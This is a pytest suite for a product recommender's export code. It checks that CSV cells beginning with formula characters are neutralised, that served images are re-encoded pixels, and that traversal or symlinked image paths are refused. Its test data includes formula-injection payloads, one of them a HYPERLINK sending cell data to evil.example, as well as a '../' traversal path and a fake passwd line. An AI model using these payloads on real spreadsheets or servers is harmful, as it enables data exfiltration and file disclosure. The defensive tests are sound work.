"""recommender/export.py: CSV formula neutralisation, image downloads that serve only pixels, prices."""

from __future__ import annotations

import csv
import io
import os
import shutil

import pandas as pd
import pytest
from PIL import Image

from recommender import HybridRecommender, load_catalog
from recommender.catalog.loader import DEMO_CATALOG, catalog_from_frame
from recommender.errors import ImageError
from recommender.export import (
    catalog_currency,
    format_price,
    image_download,
    neutralise_cell,
    recommendations_csv,
)

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1",
    "minus": "-2",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_formula_cells_become_text(name):
    assert neutralise_cell(HOSTILE[name]) == "'" + HOSTILE[name]


def test_ordinary_cells_and_numbers_are_unchanged():
    for value in ("Laptop", "T-Shirt", "50% off", "", "a=b", -2.5, 3, None):
        assert neutralise_cell(value) == value


def hostile_catalog(tmp_path, demo_catalog):
    """Four demo products, the two balls renamed/rebranded with formula payloads (copied images)."""
    ids = ["laptop", "tennis-ball", "basketball", "football"]
    items = demo_catalog.items.set_index("id").loc[ids].reset_index()
    (tmp_path / "images").mkdir()
    for rel in items["image"]:
        shutil.copy(DEMO_CATALOG.parent / rel, tmp_path / rel)
    items.loc[1, "name"] = HOSTILE["hyperlink"]
    items.loc[1, "brand"] = HOSTILE["at"]
    items.loc[3, "name"] = HOSTILE["plus"]
    items.loc[3, "colour"] = HOSTILE["minus"]
    items.loc[3, "brand"] = HOSTILE["tab"]
    items.loc[3, "sub_category"] = HOSTILE["cr"]
    return catalog_from_frame(items, tmp_path)


def test_exported_csv_has_no_live_formula(tmp_path, demo_catalog):
    catalog = hostile_catalog(tmp_path, demo_catalog)
    rec = HybridRecommender(backbone="efficientnet_lite0", cache_dir=tmp_path / "cache").fit(catalog)
    res = rec.recommend(item="basketball", k=3)
    assert {"tennis-ball", "football"} <= set(res.ids)  # the other balls
    rows = list(csv.DictReader(io.StringIO(recommendations_csv(res, catalog), newline="")))
    cells = [v for row in rows for v in row.values()] + list(rows[0])
    assert not [c for c in cells if c and c[0] in "=+-@\t\r"], cells
    by_id = {r["id"]: r for r in rows}
    # The payload is kept, readable, behind a quote: no data is lost.
    assert by_id["tennis-ball"]["name"] == "'" + HOSTILE["hyperlink"]
    assert by_id["tennis-ball"]["brand"] == "'" + HOSTILE["at"]
    assert by_id["football"]["name"] == "'+1" and by_id["football"]["colour"] == "'-2"
    # The loader strips surrounding whitespace, so the tab/CR payloads arrive as "=1+1": still neutralised.
    assert by_id["football"]["brand"] in ("'" + HOSTILE["tab"], "'=1+1")
    assert by_id["football"]["sub_category"] in ("'" + HOSTILE["cr"], "'=1+1")
    # Numbers stay numbers, and the price says its currency.
    assert all(0 <= float(r["score"]) <= 1 and float(r["price"]) > 0 for r in rows)
    assert {r["currency"] for r in rows} == {"USD"}


def test_image_download_is_re_encoded_pixels(demo_catalog):
    pos = demo_catalog.position("tennis-ball")
    original = demo_catalog.image_path(pos).read_bytes()
    down = image_download(demo_catalog, pos)
    assert down.data != original  # never the file's own bytes
    assert down.mime == "image/jpeg" and down.file_name == "tennis-ball.jpg"
    served = Image.open(io.BytesIO(down.data))
    assert served.format == "JPEG" and served.size == Image.open(demo_catalog.image_path(pos)).size


def test_image_download_of_a_png_is_png(tmp_path, demo_catalog):
    (tmp_path / "images").mkdir()
    Image.open(demo_catalog.image_path(demo_catalog.position("laptop"))).save(tmp_path / "images" / "laptop.png")
    (tmp_path / "catalog.csv").write_text("id,name,image\nlaptop,Laptop,images/laptop.png\n")
    catalog = load_catalog(tmp_path / "catalog.csv")
    down = image_download(catalog, catalog.position("laptop"), max_side=100)
    img = Image.open(io.BytesIO(down.data))
    assert down.mime == "image/png" and img.format == "PNG" and max(img.size) == 100


def _escaping_catalog(tmp_path, image_cell: str):
    (tmp_path / "shop").mkdir()
    (tmp_path / "shop" / "catalog.csv").write_text(f"id,name,image\nx,X,{image_cell}\n")
    return load_catalog(tmp_path / "shop" / "catalog.csv")


@pytest.mark.parametrize("how", ["dotdot", "absolute", "symlink"])
def test_image_download_never_serves_a_file_outside_the_catalog(tmp_path, how):
    secret = tmp_path / "secret.png"
    Image.new("RGB", (4, 4), (1, 2, 3)).save(secret)  # even a real image outside is not served
    if how == "symlink":
        (tmp_path / "shop").mkdir()
        os.symlink(secret, tmp_path / "shop" / "link.png")
        (tmp_path / "shop" / "catalog.csv").write_text("id,name,image\nx,X,link.png\n")
        catalog = load_catalog(tmp_path / "shop" / "catalog.csv")
    else:
        catalog = _escaping_catalog(tmp_path, "../secret.png" if how == "dotdot" else str(secret))
    with pytest.raises(ImageError, match="outside the catalog folder"):
        image_download(catalog, 0)


def test_image_download_of_a_non_image_is_an_image_error(tmp_path):
    catalog = _escaping_catalog(tmp_path, "notes.png")
    (tmp_path / "shop" / "notes.png").write_text("root:x:0:0:root:/root:/bin/bash\n")
    with pytest.raises(ImageError):
        image_download(catalog, 0)
    (tmp_path / "shop" / "notes.png").unlink()
    with pytest.raises(ImageError, match="file not found"):
        image_download(catalog, 0)


def test_currency_setting(tmp_path, monkeypatch, demo_catalog):
    monkeypatch.delenv("RECOMMENDER_CURRENCY", raising=False)
    assert catalog_currency(demo_catalog) == "USD"
    monkeypatch.setenv("RECOMMENDER_CURRENCY", "eur")
    assert catalog_currency(demo_catalog) == "EUR"
    monkeypatch.setenv("RECOMMENDER_CURRENCY", "not a code")
    assert catalog_currency(demo_catalog) == "USD"
    (tmp_path / "catalog.csv").write_text("id,name,image,price,currency\na,A,a.jpg,1,GBP\nb,B,b.jpg,2,gbp\n")
    assert catalog_currency(load_catalog(tmp_path / "catalog.csv")) == "GBP"  # the catalog's own column wins
    assert format_price(1299, "USD") == "$1,299.00"
    assert format_price(12.5, "EUR") == "€12.50"
    assert format_price(9.9, "CHF") == "CHF 9.90"
    for missing in (None, float("nan"), float("inf"), pd.NA, "n/a"):
        assert format_price(missing, "USD") == ""
